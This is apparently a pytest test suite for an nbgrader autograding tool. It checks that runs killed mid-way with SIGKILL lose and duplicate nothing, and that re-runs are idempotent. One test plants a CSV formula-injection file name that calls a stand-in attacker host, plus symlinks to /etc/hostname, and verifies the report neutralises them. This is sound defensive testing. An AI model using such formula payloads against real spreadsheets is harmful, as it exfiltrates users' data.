"""Integrity: ``bpscare autograde`` killed with SIGKILL halfway, then re-run, loses nothing.

The gradebook is written one transaction per submission, and ``autograded/`` through a
temporary folder and a rename, so a run killed at any moment leaves only complete submissions;
re-running grades the rest, and re-running again changes nothing.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
from cohort import (
    ASSIGNMENT,
    NOTEBOOK,
    add_cohort,
    copy_course,
    gradebook_scores,
    notebook_outputs,
    tree_hashes,
)
from nbgrader import utils
from nbgrader.api import Gradebook

from bpscare.authoring import simulated_submissions
from bpscare.errors import BpscareError
from bpscare.grading import autograde, integrity
from bpscare.grading.backend import cell_scores

pytestmark = pytest.mark.e2e

COUNT = 16
TEST_CELLS = (
    "a01_q1_phq9_total_tests",
    "a01_q2_bands_tests",
    "a01_q3_safety_tests",
    "a01_q4_library_tests",
)


def bpscare_command(course: Path, *extra: str) -> list[str]:
    script = Path(sys.executable).parent / "bpscare"
    return [str(script), "autograde", ASSIGNMENT, "--course", str(course), *extra]


def run_cli(course: Path, *extra: str) -> subprocess.CompletedProcess:
    result = subprocess.run(
        bpscare_command(course, *extra), capture_output=True, text=True, timeout=600
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return result


def graded_learners(db: Path) -> set[str]:
    """Learners with every tests cell scored (auto_score not NULL) in the gradebook."""
    if not db.exists():
        return set()
    try:
        scores = gradebook_scores(db)
    except sqlite3.Error:
        return set()
    learners = {learner for learner, _ in scores}
    return {
        learner
        for learner in learners
        if all(scores.get((learner, cell)) is not None for cell in TEST_CELLS)
    }


def assert_consistent(course: Path, learners: set[str]) -> None:
    """No duplicate rows; every submission in the gradebook is complete; the DB is sound."""
    db = course / "gradebook.db"
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert (
            conn.execute(
                "SELECT student_id, assignment_id, COUNT(*) FROM submitted_assignment "
                "GROUP BY student_id, assignment_id HAVING COUNT(*) > 1"
            ).fetchall()
            == []
        )
        assert (
            conn.execute(
                "SELECT notebook_id, cell_id, COUNT(*) FROM grade "
                "GROUP BY notebook_id, cell_id HAVING COUNT(*) > 1"
            ).fetchall()
            == []
        )
    scores = gradebook_scores(db)
    in_db = {learner for learner, _ in scores}
    assert in_db <= learners
    for learner in in_db:
        cells = {cell: score for (who, cell), score in scores.items() if who == learner}
        # a submission that is in the gradebook has all of its tests cells scored: no half rows
        assert all(cells.get(cell) is not None for cell in TEST_CELLS), (learner, cells)


def snapshot(course: Path, learners: set[str]) -> tuple:
    """Everything a re-run could change: scores, row counts, autograded files and outputs."""
    db = course / "gradebook.db"
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
        counts = {
            table: conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
            for table in ("student", "submitted_assignment", "submitted_notebook", "grade")
        }
    return (
        gradebook_scores(db),
        counts,
        sorted(tree_hashes(course / "autograded")),
        {learner: notebook_outputs(course, learner) for learner in learners},
    )


@pytest.fixture(scope="module")
def cohort_courses(built_code_course, tmp_path_factory):
    """Two copies of one cohort; the "clean" one graded once, start to finish."""
    tmp = tmp_path_factory.mktemp("integrity")
    killed = copy_course(built_code_course, tmp / "killed")
    clean = copy_course(built_code_course, tmp / "clean")
    learners = add_cohort(killed, COUNT)
    assert add_cohort(clean, COUNT) == learners
    run_cli(clean)
    assert graded_learners(clean / "gradebook.db") == set(learners)
    return killed, clean, set(learners), snapshot(clean, set(learners))


def leftover_processes(course: Path, session: int) -> list[int]:
    """Live processes of a killed run: in its session, or with ``course`` on their command line."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        state, sid = fields[0], int(fields[3])
        if (str(course) in cmdline or sid == session) and state != "Z":
            found.append(int(entry.name))
    return found


def kill_halfway(course: Path, learners: set[str], pause: float) -> bool:
    """Start a run, SIGKILL it once a new submission is graded (plus ``pause``); True if killed."""
    db = course / "gradebook.db"
    already = len(graded_learners(db))
    process = subprocess.Popen(
        bpscare_command(course, "--workers", "1"),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline and process.poll() is None:
            if len(graded_learners(db)) > already:
                break
            time.sleep(0.005)
        time.sleep(pause)
        if process.poll() is not None:
            return False
        os.kill(process.pid, signal.SIGKILL)  # the grading process only, as the OOM killer would
        process.wait(timeout=30)
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait(timeout=30)
    deadline = time.monotonic() + 15
    while leftover_processes(course, process.pid) and time.monotonic() < deadline:
        time.sleep(0.2)
    orphans = leftover_processes(course, process.pid)
    for pid in orphans:  # they are this test's own grandchildren: clean up, then fail
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    assert orphans == [], "grading processes outlived the killed run"
    return True


def test_sigkill_halfway_then_rerun_loses_and_duplicates_nothing(cohort_courses):
    """After SIGKILLs mid-run and a re-run, are all grades present once and equal to a clean run?"""
    killed, clean, learners, _ = cohort_courses
    db = killed / "gradebook.db"
    kills = 0
    # four kills: three the moment a new grade is committed (the riskiest moment: the grade is in
    # the gradebook, is the autograded folder in place too?), one a little later
    for pause in (0.0, 0.0, 0.0, 0.13):
        if not kill_halfway(killed, learners, pause):
            break
        kills += 1
        with_grades = graded_learners(db)
        assert len(with_grades) < len(learners), "the run finished before it was killed"
        assert_consistent(killed, learners)
        for learner in with_grades:  # a graded learner's autograded notebook is in place
            notebook = killed / "autograded" / learner / ASSIGNMENT / NOTEBOOK
            assert notebook.is_file(), (
                f"after kill {kills}: {learner} is graded in the gradebook but has no autograded "
                "notebook (grades committed before the autograded folder was in place)"
            )
    assert kills >= 1, "no run could be killed halfway"

    run_cli(killed)
    assert graded_learners(db) == learners
    assert_consistent(killed, learners)
    assert gradebook_scores(db) == gradebook_scores(clean / "gradebook.db")
    assert set(tree_hashes(killed / "autograded")) == set(tree_hashes(clean / "autograded"))
    for learner in learners:
        assert notebook_outputs(killed, learner) == notebook_outputs(clean, learner), learner


def test_rerunning_is_idempotent(cohort_courses):
    """Does grading a fully graded course twice more change no score, row or output?"""
    _, clean, learners, first = cohort_courses
    for _ in range(2):
        run_cli(clean)
        assert snapshot(clean, learners) == first
    assert first[1]["submitted_assignment"] == len(learners)
    assert first[1]["grade"] == len(learners) * 5  # four tests cells and the reflection task


# --- a kill at each step of one submission's swap ------------------------------------------

TINY = "t01-tiny"
TINY_NB = f"{TINY}.ipynb"
TINY_TESTS = "t01_q1_double_tests"
WRONG = "def double(x):\n    return x * 3\n"

#: Run in a child process: patch one step of ``integrity`` to SIGKILL the process there.
KILL_SCRIPT = r"""
import os, signal, sys
from pathlib import Path
from bpscare.grading import autograde, integrity

course, step = Path(sys.argv[1]), sys.argv[2]


def die(*_):
    os.kill(os.getpid(), signal.SIGKILL)


real_swap, real_rename = integrity.swap_in, integrity.rename
if step == "before-swap":
    integrity.swap_in = die
elif step == "between-renames":  # a platform without renameat2: two renames, killed between
    integrity.exchange = lambda a, b: False
    calls = []

    def rename(a, b):
        calls.append(a)
        if len(calls) == 2:
            die()
        real_rename(a, b)

    integrity.rename = rename
elif step in ("after-swap", "first-after-swap"):
    def swap_in(entry):
        real_swap(entry)
        die()

    integrity.swap_in = swap_in
elif step == "after-commit":
    integrity.finish = die
autograde(course, "t01-tiny", students=["l-one"], workers=1)
print("NOT KILLED")
"""


def _tiny_submit(course: Path, learner: str, answer: str | None) -> None:
    release = nbformat.read(str(course / "release" / TINY / TINY_NB), as_version=4)
    source = nbformat.read(str(course / "source" / TINY / TINY_NB), as_version=4)
    ids = simulated_submissions.answer_cells(release)
    chosen = dict.fromkeys(ids, simulated_submissions.SOLUTION_ANSWER if answer is None else answer)
    nb = simulated_submissions.fill_release(release, source, chosen, reflection="Reflection.")
    folder = course / "submitted" / learner / TINY
    if folder.exists():
        shutil.rmtree(folder)
    when = dt.datetime(2029, 12, 31, tzinfo=dt.UTC)
    simulated_submissions.write_submission(course, learner, TINY, {TINY_NB: nb}, when)


def _pair(course: Path) -> tuple[str, str]:
    """(folder, gradebook) for l-one: each "old" (wrong answer, 0), "new" (solution) or "none"."""
    names = {0.0: "old", 2.0: "new"}
    path = course / "autograded" / "l-one" / TINY / TINY_NB
    folder = "none"
    if path.exists():
        nb = nbformat.read(str(path), as_version=4)
        cell = next(
            c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == TINY_TESTS
        )
        folder = names[utils.determine_grade(cell)[0]]
    score = cell_scores(course, TINY, "l-one").get(TINY_TESTS)
    return folder, "none" if score is None else names[score]


def _settle(course: Path) -> list[str]:
    """What the next run does first: settle the journal against the gradebook."""
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        return integrity.recover(course / integrity.SCRATCH, gradebook)


@pytest.fixture(scope="module")
def tiny_graded(built_tiny, tmp_path_factory):
    """The tiny course with l-one graded once on a wrong answer (the "old" state)."""
    course = tmp_path_factory.mktemp("kill") / "course"
    shutil.copytree(Path(built_tiny.out) / "course", course)
    _tiny_submit(course, "l-one", WRONG)
    _tiny_submit(course, "l-two", None)
    autograde(course, TINY, workers=1)
    assert _pair(course) == ("old", "old")
    return course


# step → (raw state right after the kill, state once settled)
STEPS = {
    "before-swap": (("old", "old"), ("old", "old")),
    "between-renames": (("none", "old"), ("old", "old")),
    "after-swap": (("new", "old"), ("old", "old")),
    "after-commit": (("new", "new"), ("new", "new")),
    "first-after-swap": (("new", "none"), ("none", "none")),
}


@pytest.mark.parametrize("step", list(STEPS))
def test_sigkill_at_each_step_leaves_old_old_or_new_new(tiny_graded, tmp_path, step):
    """Killed at any step: (folder, grades) old-old or new-new once settled; a re-run finishes."""
    course = Path(shutil.copytree(tiny_graded, tmp_path / "course"))
    if step.startswith("first"):  # never graded before: no folder, no grades
        shutil.rmtree(course / "autograded" / "l-one")
        with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
            gradebook.remove_submission(TINY, "l-one")
        assert _pair(course) == ("none", "none")
    _tiny_submit(course, "l-one", None)  # now the solution: a regrade gives "new"
    other = tree_hashes(course / "autograded" / "l-two")
    process = subprocess.Popen(
        [sys.executable, "-c", KILL_SCRIPT, str(course), step],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    try:
        out, err = process.communicate(timeout=300)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)  # the killed run's grading workers
    assert process.returncode == -signal.SIGKILL, out + err[-2000:]
    raw, settled = STEPS[step]
    assert _pair(course) == raw
    journal = list(integrity.journal_dir(course / integrity.SCRATCH).glob("*.json"))
    assert len(journal) == (0 if False else 1)
    assert _settle(course) == [f"l-one/{TINY}"]
    assert _pair(course) == settled
    assert not list(integrity.journal_dir(course / integrity.SCRATCH).glob("*.json"))
    assert sorted(p.name for p in (course / "autograded" / "l-one").iterdir()) == (
        [TINY] if settled[0] != "none" else []
    )
    assert tree_hashes(course / "autograded" / "l-two") == other  # other learners untouched
    run = autograde(course, TINY, students=["l-one"], workers=1)
    assert not run.failed, run.summary()
    assert _pair(course) == ("new", "new")
    assert not (course / integrity.SCRATCH).exists()
    assert not [p for p in (course / "autograded" / "l-one").iterdir() if p.name != TINY]


def test_second_run_on_the_same_course_is_refused(tiny_graded, tmp_path):
    course = Path(shutil.copytree(tiny_graded, tmp_path / "course"))
    with integrity.course_lock(course, wait=False) as held:
        assert held
        with pytest.raises(BpscareError, match="another bpscare autograde is running"):
            autograde(course, TINY, workers=1)


def test_student_runs_merge_the_flag_report_and_neutralise_formulas(tiny_graded, tmp_path):
    """``--student`` keeps other learners' flags; a learner-chosen name cannot be a formula."""
    course = Path(shutil.copytree(tiny_graded, tmp_path / "course"))
    evil = '=HYPERLINK("https:attacker.example?"&A1,"x")'
    (course / "submitted" / "l-two" / TINY / evil).symlink_to("/etc/hostname")
    (course / "submitted" / "l-one" / TINY / "@SUM(1+1)").symlink_to("/etc/hostname")
    autograde(course, TINY, workers=1)
    report = course / "reports" / f"autograde-flags-{TINY}.csv"

    def rows() -> list[list[str]]:
        with report.open(newline="") as handle:
            return list(csv.reader(handle))[1:]

    first = rows()
    assert {r[0] for r in first} == {"l-one", "l-two"}
    for _, flag in first:
        assert flag[0] not in "=+-@", flag
    assert any(flag.startswith("'=HYPERLINK") for _, flag in first)
    (course / "submitted" / "l-one" / TINY / "@SUM(1+1)").unlink()
    autograde(course, TINY, students=["l-one"], workers=1)
    assert rows() == [r for r in first if r[0] == "l-two"]  # l-two's flags survive
    autograde(course, TINY, students=["l-two"], workers=1)
    assert rows() == [r for r in first if r[0] == "l-two"]  # merging twice changes nothing


# --- settling, from every state a kill can leave (file system only, fast) ----------------


def _entry(tmp_path: Path) -> integrity.Entry:
    scratch = tmp_path / integrity.SCRATCH
    staging = scratch / "l-one--a.incoming"
    staging.mkdir(parents=True)
    (staging / "which").write_text("new")
    info = staging.stat()
    return integrity.Entry(
        assignment="a",
        student="l-one",
        dest=str(tmp_path / "autograded" / "l-one" / "a"),
        staging=str(staging),
        backup=str(scratch / "l-one--a.previous"),
        inode=(info.st_dev, info.st_ino),
        fingerprint="x",
    )


@pytest.mark.parametrize("exchange", [True, False])
@pytest.mark.parametrize("renames_done", [0, 1, 2])
@pytest.mark.parametrize("committed", [True, False])
def test_settle_from_any_point_of_the_swap(
    tmp_path, monkeypatch, exchange, renames_done, committed
):
    """However far the swap got, settling leaves exactly one folder: the committed one."""
    entry = _entry(tmp_path)
    dest = Path(entry.dest)
    dest.mkdir(parents=True)
    (dest / "which").write_text("old")
    integrity.write_entry(entry)
    if exchange and renames_done:
        assert integrity.exchange(Path(entry.staging), dest)
    elif renames_done >= 1:
        integrity.rename(dest, Path(entry.backup))
        if renames_done == 2:
            integrity.rename(Path(entry.staging), dest)
    monkeypatch.setattr(
        integrity, "exchange", lambda a, b: exchange and integrity.atomic.exchange(a, b)
    )
    integrity.settle(entry, committed=committed)
    assert (dest / "which").read_text() == ("new" if committed else "old")
    assert sorted(p.name for p in (tmp_path / integrity.SCRATCH).iterdir()) == ["journal"]
    assert not entry.path.exists()
    integrity.tidy(tmp_path / integrity.SCRATCH)
    assert not (tmp_path / integrity.SCRATCH).exists()
